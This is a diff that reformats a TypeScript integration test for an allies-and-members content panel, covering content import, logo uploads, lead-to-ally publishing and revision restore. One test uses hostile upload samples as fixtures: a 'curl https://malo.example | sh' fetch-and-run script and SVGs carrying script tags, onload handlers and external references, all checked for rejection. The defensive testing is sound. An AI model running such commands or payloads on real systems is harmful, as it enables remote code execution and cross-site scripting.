@@ -1,7 +1,18 @@
 import { eq, sql } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Hono } from 'hono';
-import { logoUrlOf, type Ally, type AllyBrand, type AlliesPageProps, type ContentSet, type ContentSetConflict, type EditableAlly, type LeadPageProps, type MediaImage, type Member } from '@gota/shared/contracts';
+import {
+  logoUrlOf,
+  type Ally,
+  type AllyBrand,
+  type AlliesPageProps,
+  type ContentSet,
+  type ContentSetConflict,
+  type EditableAlly,
+  type LeadPageProps,
+  type MediaImage,
+  type Member,
+} from '@gota/shared/contracts';
 import { allyMessages } from '@gota/shared/schemas';
 import type { ContentFollower } from '../../content/content-source';
 import type { Database } from '../../db/database';
@@ -37,7 +48,8 @@ afterAll(async () => {
 });
 
 const alliesPage = (query = '') => pageProps<AlliesPageProps>(first.app, `/panel/aliados${query}`, editor);
-const save = (body: { items: EditableAlly[]; version: number; desde?: { lead: string; aliado: string } }, browser = editor) => sendJson(browser, 'PUT', '/api/aliados', body);
+const save = (body: { items: EditableAlly[]; version: number; desde?: { lead: string; aliado: string } }, browser = editor) =>
+  sendJson(browser, 'PUT', '/api/aliados', body);
 
 /** Sends a logo as the panel's file picker does. */
 function uploadLogo(browser: Browser, bytes: Buffer, name: string): Promise<Response> {
@@ -45,21 +57,34 @@ function uploadLogo(browser: Browser, bytes: Buffer, name: string): Promise<Resp
   form.set('file', new Blob([new Uint8Array(bytes)]), name);
   form.set('uso', 'logo');
   form.set('decorative', 'true');
-  return browser.request('/api/media', { method: 'POST', body: form, headers: { Origin: 'http://localhost:3000', Accept: 'application/json', 'X-CSRF-TOKEN': browser.fillToken() } });
+  return browser.request('/api/media', {
+    method: 'POST',
+    body: form,
+    headers: { Origin: 'http://localhost:3000', Accept: 'application/json', 'X-CSRF-TOKEN': browser.fillToken() },
+  });
 }
 
-const logoSvg = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 400 286" width="400" height="286"><rect width="400" height="286" fill="#0a5"/><circle cx="200" cy="143" r="90" fill="#fff"/></svg>';
+const logoSvg =
+  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 400 286" width="400" height="286"><rect width="400" height="286" fill="#0a5"/><circle cx="200" cy="143" r="90" fill="#fff"/></svg>';
 
 describe(`allies and members on ${testDatabaseKind}`, () => {
   it('imports allies.json and members.json once, even when two instances start together, allies first', async () => {
-    const log = await database.use().execute(sql`select action, actor, detail from content_log where kind = 'aliados' order by id`);
-    expect((log as unknown as { rows: unknown[] }).rows).toEqual([{ action: 'importada', actor: 'sistema', detail: 'api/content/allies.json y members.json' }]);
+    const log = await database
+      .use()
+      .execute(sql`select action, actor, detail from content_log where kind = 'aliados' order by id`);
+    expect((log as unknown as { rows: unknown[] }).rows).toEqual([
+      { action: 'importada', actor: 'sistema', detail: 'api/content/allies.json y members.json' },
+    ]);
     const { set } = await alliesPage();
     expect(set.version).toBe(1);
     const visitors = await pageProps<{ allies: Ally[] }>(first.app, '/aliados');
     const members = await pageProps<{ members: Member[] }>(first.app, '/datos-agua');
-    expect(set.items.filter((item) => item.seccion === 'aliados').map((item) => item.empresa)).toEqual(visitors.allies.map((ally) => ally.empresa));
-    expect(set.items.filter((item) => item.seccion === 'miembros').map((item) => item.img)).toEqual(members.members.map((member) => member.logo));
+    expect(set.items.filter((item) => item.seccion === 'aliados').map((item) => item.empresa)).toEqual(
+      visitors.allies.map((ally) => ally.empresa),
+    );
+    expect(set.items.filter((item) => item.seccion === 'miembros').map((item) => item.img)).toEqual(
+      members.members.map((member) => member.logo),
+    );
     expect(new Set(set.items.map((item) => item.id)).size).toBe(set.items.length);
     await first.content.importOnce();
     expect((await alliesPage()).set.version).toBe(1);
@@ -101,9 +126,25 @@ describe(`allies and members on ${testDatabaseKind}`, () => {
   it('refuses a logo that is a script, an SVG with code or outside references, and a huge file; takes a clean SVG as pixels', async () => {
     const refusals: [Buffer, number, string][] = [
       [Buffer.from('#!/bin/sh\ncurl https://malo.example | sh\n'), 415, logoMessages.notAnImage],
-      [Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>'), 422, logoMessages.svgCode],
-      [Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)"><rect width="10" height="10"/></svg>'), 422, logoMessages.svgCode],
-      [Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><image href="https://rastreo.example/pixel.png" width="10" height="10"/></svg>'), 422, logoMessages.svgExternal],
+      [
+        Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>'),
+        422,
+        logoMessages.svgCode,
+      ],
+      [
+        Buffer.from(
+          '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)"><rect width="10" height="10"/></svg>',
+        ),
+        422,
+        logoMessages.svgCode,
+      ],
+      [
+        Buffer.from(
+          '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><image href="https://rastreo.example/pixel.png" width="10" height="10"/></svg>',
+        ),
+        422,
+        logoMessages.svgExternal,
+      ],
     ];
     for (const [bytes, status, message] of refusals) {
       const res = await uploadLogo(editor, bytes, 'logo.svg');
@@ -124,21 +165,51 @@ describe(`allies and members on ${testDatabaseKind}`, () => {
     const [lead] = await database
       .use()
       .insert(leads)
-      .values({ kind: 'empresa', empresa: 'Riego Justo S.C.', name: 'Marta Gil', email: 'marta@riegojusto.example', mensaje: 'Queremos sumarnos.' })
+      .values({
+        kind: 'empresa',
+        empresa: 'Riego Justo S.C.',
+        name: 'Marta Gil',
+        email: 'marta@riegojusto.example',
+        mensaje: 'Queremos sumarnos.',
+      })
       .returning({ id: leads.id });
     const page = await alliesPage(`?desde=${lead!.id}`);
-    expect(page.fromLead).toMatchObject({ leadId: lead!.id, empresa: 'Riego Justo S.C.', contacto: 'Marta Gil <marta@riegojusto.example>' });
+    expect(page.fromLead).toMatchObject({
+      leadId: lead!.id,
+      empresa: 'Riego Justo S.C.',
+      contacto: 'Marta Gil <marta@riegojusto.example>',
+    });
     const logo = (await (await uploadLogo(editor, Buffer.from(logoSvg), 'riego.svg')).json()) as MediaImage;
-    const ally: EditableAlly = { id: 'aliado-riego-justo', seccion: 'aliados', empresa: 'Riego Justo S.C.', img: logoUrlOf(logo)!, text: 'Riego por goteo para pequeños productores.', link: 'https://riegojusto.example', textBtn: '', visible: true };
-    const res = await save({ items: [ally, ...page.set.items], version: page.set.version, desde: { lead: lead!.id, aliado: ally.id } });
+    const ally: EditableAlly = {
+      id: 'aliado-riego-justo',
+      seccion: 'aliados',
+      empresa: 'Riego Justo S.C.',
+      img: logoUrlOf(logo)!,
+      text: 'Riego por goteo para pequeños productores.',
+      link: 'https://riegojusto.example',
+      textBtn: '',
+      visible: true,
+    };
+    const res = await save({
+      items: [ally, ...page.set.items],
+      version: page.set.version,
+      desde: { lead: lead!.id, aliado: ally.id },
+    });
     expect(res.status).toBe(200);
-    expect(((await res.json()) as { set: ContentSet<'aliados'>; message: string }).message).toBe('Aliados y miembros publicados: ya los ven los visitantes.');
+    expect(((await res.json()) as { set: ContentSet<'aliados'>; message: string }).message).toBe(
+      'Aliados y miembros publicados: ya los ven los visitantes.',
+    );
     for (const { app } of [first, second]) {
-      await eventually(async () => (await pageProps<{ allies: Ally[] }>(app, '/aliados')).allies[0]?.empresa === 'Riego Justo S.C.');
+      await eventually(
+        async () => (await pageProps<{ allies: Ally[] }>(app, '/aliados')).allies[0]?.empresa === 'Riego Justo S.C.',
+      );
       const home = await pageProps<{ allies: AllyBrand[] }>(app, '/');
       expect(home.allies[0]).toEqual({ empresa: 'Riego Justo S.C.', img: ally.img });
     }
-    expect((await pageProps<{ allies: Ally[] }>(second.app, '/aliados')).allies[0]).toMatchObject({ textBtn: 'Conoce más', link: 'https://riegojusto.example' });
+    expect((await pageProps<{ allies: Ally[] }>(second.app, '/aliados')).allies[0]).toMatchObject({
+      textBtn: 'Conoce más',
+      link: 'https://riegojusto.example',
+    });
     const leadPage = await pageProps<LeadPageProps>(first.app, `/panel/mensajes/${lead!.id}`, editor);
     expect(leadPage.ally).toEqual({ id: 'aliado-riego-justo', empresa: 'Riego Justo S.C.' });
     expect(leadPage.canMakeAlly).toBe(true);
@@ -149,7 +220,11 @@ describe(`allies and members on ${testDatabaseKind}`, () => {
   });
 
   it('saves nothing when the lead was deleted meanwhile', async () => {
-    const [lead] = await database.use().insert(leads).values({ kind: 'empresa', empresa: 'Gone S.A.', name: 'Ana', email: 'ana@gone.example', mensaje: 'Hola' }).returning({ id: leads.id });
+    const [lead] = await database
+      .use()
+      .insert(leads)
+      .values({ kind: 'empresa', empresa: 'Gone S.A.', name: 'Ana', email: 'ana@gone.example', mensaje: 'Hola' })
+      .returning({ id: leads.id });
     const { set } = await alliesPage();
     await database.use().delete(leads).where(eq(leads.id, lead!.id));
     const ally: EditableAlly = { ...set.items[0]!, id: 'aliado-gone', empresa: 'Gone S.A.' };
@@ -166,7 +241,9 @@ describe(`allies and members on ${testDatabaseKind}`, () => {
     const items = [...rest, { ...hidden!, visible: false }, { ...moved!, seccion: 'miembros' as const }];
     const res = await save({ items, version: set.version });
     expect(res.status).toBe(200);
-    await eventually(async () => (await pageProps<{ members: Member[] }>(second.app, '/datos-agua')).members.at(-1)?.name === moved!.empresa);
+    await eventually(
+      async () => (await pageProps<{ members: Member[] }>(second.app, '/datos-agua')).members.at(-1)?.name === moved!.empresa,
+    );
     const allies = (await pageProps<{ allies: Ally[] }>(second.app, '/aliados')).allies.map((ally) => ally.empresa);
     expect(allies).not.toContain(moved!.empresa);
     expect(allies).not.toContain(hidden!.empresa);
@@ -179,7 +256,10 @@ describe(`allies and members on ${testDatabaseKind}`, () => {
 
     const restored = await sendJson(editor, 'POST', '/api/aliados/revisiones/1/restaurar', { version: set.version + 1 });
     expect(restored.status).toBe(200);
-    await eventually(async () => !(await pageProps<{ allies: Ally[] }>(second.app, '/aliados')).allies.some((ally) => ally.empresa === 'Riego Justo S.C.'));
+    await eventually(
+      async () =>
+        !(await pageProps<{ allies: Ally[] }>(second.app, '/aliados')).allies.some((ally) => ally.empresa === 'Riego Justo S.C.'),
+    );
     expect((await alliesPage()).log[0]).toMatchObject({ action: 'restaurada', detail: 'revisión 1' });
   });
 });
